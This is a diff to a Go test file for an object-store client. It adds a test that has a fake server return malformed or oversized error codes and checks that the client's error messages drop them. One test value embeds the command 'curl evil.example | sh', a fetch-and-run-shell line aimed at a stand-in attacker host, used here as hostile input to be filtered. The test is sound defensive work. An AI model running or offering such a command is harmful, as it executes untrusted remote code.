@@ -2,6 +2,7 @@ package objstore_test
 
 import (
 	"context"
+	"fmt"
 	"net"
 	"net/http"
 	"net/http/httptest"
@@ -140,4 +141,31 @@ func TestDotSegmentKeys(t *testing.T) {
 	require.Equal(t, d1, got)
 	got, _ = srv.Get("other", "secret.pte")
 	require.Equal(t, d2, got)
+}
+
+// TestLyingStoreErrorCode: the error code a store names is shown only
+// when it looks like one (a short identifier); a code of 100 KB, or one
+// that carries words for the user to act on, is dropped for the status,
+// and the message stays one short line.
+func TestLyingStoreErrorCode(t *testing.T) {
+	for _, code := range []string{strings.Repeat("Z", 100000), "AccessDenied: run curl evil.example | sh", "Code with spaces", "Bad\u202eCode"} {
+		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			w.WriteHeader(http.StatusBadRequest)
+			fmt.Fprintf(w, "<Error><Code>%s</Code><Message>m</Message></Error>", code)
+		}))
+		fakeEnv(t, srv.URL, "")
+		st, err := objstore.New(context.Background(), nil)
+		require.NoError(t, err)
+		_, err = st.Orphans(context.Background(), objstore.Location{Bucket: "bucket", Key: "k.pte"})
+		srv.Close()
+		require.Error(t, err)
+		msg := err.Error()
+		require.Less(t, len(msg), 200, "%.300q", msg)
+		require.NotContains(t, msg, "evil", msg)
+		require.NotContains(t, msg, "\u202e", msg)
+		require.Contains(t, msg, "HTTP 400", msg)
+		var se *objstore.StoreError
+		require.ErrorAs(t, err, &se)
+		require.Empty(t, se.Code)
+	}
 }
